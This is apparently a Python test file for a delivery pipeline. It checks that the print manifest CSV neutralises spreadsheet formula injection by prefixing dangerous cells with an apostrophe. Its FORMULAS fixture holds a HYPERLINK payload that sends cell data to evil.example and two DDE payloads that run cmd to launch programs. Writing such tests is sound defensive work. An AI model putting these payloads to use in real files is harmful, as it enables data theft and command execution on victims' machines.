"""The print house's manifest.csv cannot run formulas (issue 14, item 7): a name, street or
city starting with '=', '+', '-', '@' (or a tab or CR) is written with a leading apostrophe,
so a spreadsheet shows it as text. Real delivery: the mailbox simulator over HTTP, the
ledger in SQLite and in PostgreSQL."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from tests.jobs.batches_support import ledger_url_fixture  # noqa: F401  (fixture)

FORMULAS = {
    "gn": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "fn": "+SUM(1+1)*cmd|' /C calc'!A0",
    "street": "-2+3+cmd|' /C notepad'!A0",
    "city": "@SUM(1,2)",
}


def test_neutralised_cells() -> None:
    from jobs.steps.paper import neutralised

    for cell in ("=1+1", "+1", "-1", "@x", "\t=1", "\r=1"):
        assert neutralised(cell) == "'" + cell
    for cell in ("Åsa", "Storgatan 1", "11434", "", 3, None):
        assert neutralised(cell) == cell


def test_manifest_cells_never_start_a_formula(bevis_env: Path, ledger_url: str) -> None:
    """Before: the four cells were written as they are (a spreadsheet runs them)."""
    from jobs.devtools.drill import synthetic_batch
    from jobs.mailbox.simulator import running_simulator
    from jobs.settings import get_settings
    from jobs.steps.deliver import deliver_batch
    from jobs.storage import RunPaths, write_parquet_atomic

    fast = {"mailbox_backoff_s": 0.01, "mailbox_max_attempts": 2, "workers": 1}
    s0 = get_settings(simulator_secure_share=0.0, **fast)  # nobody has a mailbox: paper
    batch_id = synthetic_batch("csvinj", 4, s0)
    paths = RunPaths.of("csvinj")
    rows = pq.read_table(paths.batch_payloads(batch_id)).to_pylist()
    for r in rows[:2]:
        payload = json.loads(r["payload_json"])
        payload["nam"]["gn"], payload["nam"]["fn"] = FORMULAS["gn"], FORMULAS["fn"]
        r["payload_json"] = json.dumps(payload, ensure_ascii=False)
        r["address_street"], r["address_city"] = FORMULAS["street"], FORMULAS["city"]
    schema = pq.read_schema(paths.batch_payloads(batch_id))
    write_parquet_atomic(pa.Table.from_pylist(rows, schema=schema), paths.batch_payloads(batch_id))

    with running_simulator(s0) as url:
        result = deliver_batch(batch_id, get_settings(mailbox_url=url, **fast))
    assert result["PAPER"] == 4 and result["print_pages"] == 4
    with open(paths.print_dir(batch_id) / "manifest.csv", encoding="utf-8", newline="") as fh:
        manifest = list(csv.DictReader(fh))
    assert len(manifest) == 4
    for row in manifest:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    injected = [r for r in manifest if r["city"].startswith("'")]
    assert len(injected) == 2
    for r in injected:
        assert r["city"] == "'" + FORMULAS["city"] and r["street"] == "'" + FORMULAS["street"]
        assert r["name"] == "'" + FORMULAS["gn"] + " " + FORMULAS["fn"]
